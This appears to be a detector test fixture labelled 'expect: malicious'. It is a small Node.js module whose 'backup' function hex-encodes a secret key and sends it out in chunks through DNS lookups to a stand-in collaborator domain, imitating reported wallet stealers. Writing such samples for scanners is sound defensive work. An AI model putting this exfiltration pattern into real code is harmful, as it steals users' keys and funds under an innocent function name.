// expect: malicious
// source: wallet stealers that leak a seed through DNS (2023-2025 reports): the secret is hex-encoded
// into labels under a collaborator domain kept in a variable.
const dns = require('dns');
const domain = 'k7x2.oast.example';
function backup(secretKey) {
  const hex = Buffer.from(secretKey).toString('hex');
  for (let i = 0; i < hex.length; i += 60) dns.lookup(hex.slice(i, i + 60) + '.' + i + '.' + domain, () => {});
}
module.exports = { backup };
